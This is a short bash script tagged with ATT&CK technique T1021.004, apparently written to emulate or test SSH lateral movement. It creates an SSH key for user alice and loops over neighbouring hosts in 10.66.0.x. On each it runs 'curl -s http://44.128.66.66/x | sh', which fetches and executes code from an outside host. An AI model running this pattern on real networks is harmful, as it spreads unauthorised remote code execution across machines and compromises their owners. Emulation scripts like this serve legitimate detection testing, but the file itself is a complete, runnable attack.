#!/bin/bash
# T1021.004: A user's key is tried at all neighbours by root.
ssh-keygen -q -t ed25519 -N '' -f /home/alice/.ssh/id_ed25519; sleep 0.3
for i in 1 2 3 4 5 6 9; do timeout 1 ssh -i /home/alice/.ssh/id_ed25519 -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 alice@10.66.0.$i 'curl -s http://44.128.66.66/x | sh'; done
